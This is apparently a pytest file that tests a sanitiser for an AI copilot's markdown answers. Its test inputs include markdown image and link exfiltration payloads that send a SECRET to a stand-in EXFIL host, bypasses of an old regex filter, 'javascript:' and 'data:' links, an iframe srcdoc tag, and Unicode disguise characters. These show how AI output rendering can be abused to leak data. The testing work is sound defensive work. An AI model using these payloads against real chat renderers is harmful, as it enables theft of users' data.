"""Render safety on the hostile corpus, checked by an independent parser."""

from __future__ import annotations

import pytest

from copilot_core.render_safety import (
    UnsafeFigure,
    is_app_link,
    safe_markdown,
    safe_text,
    validate_figure,
)
from tests.render_safety.checks import app_links, problems, readable
from tests.render_safety.corpus import CASES, EXFIL, SECRET, Case


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_corpus_markdown_loads_nothing_and_stays_readable(case: Case):
    out = safe_markdown(case.text)
    assert problems(out) == []
    shown = readable(out)
    for word in case.words:
        assert word in shown, (word, shown[:300])
    assert sorted(app_links(out)) == sorted(case.app_links)


@pytest.mark.parametrize("case", [c for c in CASES if c.charts], ids=lambda c: c.name)
def test_corpus_charts(case: Case):
    for chart in case.charts:
        if case.chart_withheld:
            with pytest.raises(UnsafeFigure):
                validate_figure(chart)
        else:
            assert validate_figure(chart)["data"] == chart["data"]


def test_the_old_regex_escapes_are_closed():
    """Issue 11's three bypasses of the regex sanitiser: long alt, alt with a newline, nested brackets."""
    for text in ("![" + "a" * 201 + f"](https://{EXFIL}/x?d=1)", f"![a\nb](https://{EXFIL}/x)",
                 f"![a[b]c](https://{EXFIL}/x?d=1)"):
        out = safe_markdown(text)
        assert problems(out) == [] and "image removed" in readable(out)


def test_markdown_structure_survives():
    text = "# Findings\n\n**Q05** has *low* T1:\n\n- 12.1 us\n- was 40 us\n\n| q | t1 |\n|---|---:|\n| Q05 | 12.1 |"
    out = safe_markdown(text)
    from markdown_it import MarkdownIt

    types = [t.type for t in MarkdownIt("commonmark").enable("table").parse(out)]
    for wanted in ("heading_open", "bullet_list_open", "table_open"):
        assert wanted in types
    assert "<strong>Q05</strong>" in MarkdownIt("commonmark").render(out)


def test_outside_link_shows_its_url_as_text():
    out = safe_markdown(f"[report](https://{EXFIL}/r?k={SECRET})")
    assert app_links(out) == [] and readable(out) == f"report (https://{EXFIL}/r?k={SECRET})"


@pytest.mark.parametrize("href,ok", [("/heatmap", True), ("?chip=1", True), ("#top", True), ("//evil.x", False),
                                     ("/\\evil.x", False), ("https://evil.x", False), ("javascript:x", False),
                                     ("data:text/html,x", False), ("heatmap", False)])
def test_app_links(href: str, ok: bool):
    assert is_app_link(href) is ok


def test_safe_text_removes_disguises():
    assert safe_text("ok\u202etxt.exe\u200b\x07") == "oktxt.exe "
    assert safe_text("x" * 10, limit=4) == "xxxx…"


def test_nested_structure_survives_and_loads_nothing():
    text = (f"> quoted [link](https://{EXFIL}/q)\n\n1. first\n   - inner ![p](https://{EXFIL}/p)\n   - `code`\n\n"
            f"   | q | t1 |\n   |---|--:|\n   | Q05 | [x](/heatmap) |\n2. second\n\n       indented <b>code</b>\n")
    out = safe_markdown(text)
    assert problems(out) == [] and app_links(out) == ["/heatmap"]
    from markdown_it import MarkdownIt

    types = {t.type for t in MarkdownIt("commonmark").enable("table").parse(out)}
    assert {"blockquote_open", "ordered_list_open", "bullet_list_open", "table_open", "fence"} <= types
    shown = readable(out)
    for words in ("quoted link", "first", "inner", "image removed", "Q05", "second", "indented <b>code</b>"):
        assert words in shown, (words, shown)


def test_a_tag_the_rewrite_does_not_expect_stays_text():
    """Render safety reads the parser's own HTML; a tag written in any other way is shown, never kept."""
    from copilot_core.render_safety.markdown import _rewrite

    out = _rewrite(f'<p>a <img alt="x" src="https://{EXFIL}/x"> <b>bold</b> <iframe srcdoc></p>\n')
    assert problems(out) == []
    assert "<img" in readable(out) and "<b>bold" in readable(out) and "<iframe srcdoc>" in readable(out)


def _tables_of(markdown: str) -> list[tuple[list[str | None], list[list[str]]]]:
    """Each table as (column alignments, rows of cell words), read by markdown-it-py."""
    from markdown_it import MarkdownIt

    tables: list[tuple[list[str | None], list[list[str]]]] = []
    for token in MarkdownIt("commonmark").enable("table").parse(markdown):
        if token.type == "table_open":
            tables.append(([], []))
        elif token.type == "tr_open":
            tables[-1][1].append([])
        elif token.type == "th_open":
            tables[-1][0].append(str(token.attrs["style"]) if "style" in token.attrs else None)
        elif token.type == "inline" and tables and tables[-1][1]:
            tables[-1][1][-1].append("".join(c.content for c in token.children or [] if c.type in ("text", "code_inline")))
    return tables


def test_tables_keep_their_rows_cells_and_alignment():
    text = ("| qubit | T1 us | note |\n|:---|---:|:-:|\n| Q05 | 12.1 | *low* |\n| Q07 |  | [x](/heatmap) |\n\n"
            "| only | header |\n|---|---|\n\n| a | b |\n|---|--:|\n| 1 |")
    tables = _tables_of(safe_markdown(text))
    assert tables == [
        (["text-align:left", "text-align:right", "text-align:center"],
         [["qubit", "T1 us", "note"], ["Q05", "12.1", "low"], ["Q07", "", "x"]]),
        ([None, None], [["only", "header"]]),
        ([None, "text-align:right"], [["a", "b"], ["1", ""]]),
    ]


def test_repeated_links_code_and_urls_each_show_their_own_text():
    text = ("See [trend](/timeseries) and [heatmap](/heatmap), again [trend](/timeseries); run `q()` twice `q()`; "
            "source https://lab.example/a and https://lab.example/b or https://lab.example/a then [heatmap](/heatmap).")
    out = safe_markdown(text)
    assert readable(out) == ("See trend and heatmap, again trend; run q() twice q(); source https://lab.example/a "
                             "and https://lab.example/b or https://lab.example/a then heatmap.")
    assert app_links(out) == ["/timeseries", "/heatmap", "/timeseries", "/heatmap"]
    assert problems(out) == []


def test_control_characters_go_from_plain_and_latin_text():
    """Answers in ASCII or Latin-1 (a "µs" unit) take a quicker scan for control characters than others do."""
    for unit in ("us", "µs", "μs"):  # ASCII, Latin-1 (micro sign), Greek mu
        out = safe_markdown(f"T1 \x07fell\x00 to 12 {unit}\x1b[31m")
        assert not any(c in out for c in "\x00\x07\x1b"), repr(out)
        assert readable(out) == f"T1 fell to 12 {unit} [31m"
    assert safe_text("ok\x7fgo\x08 µ") == "ok go  µ"
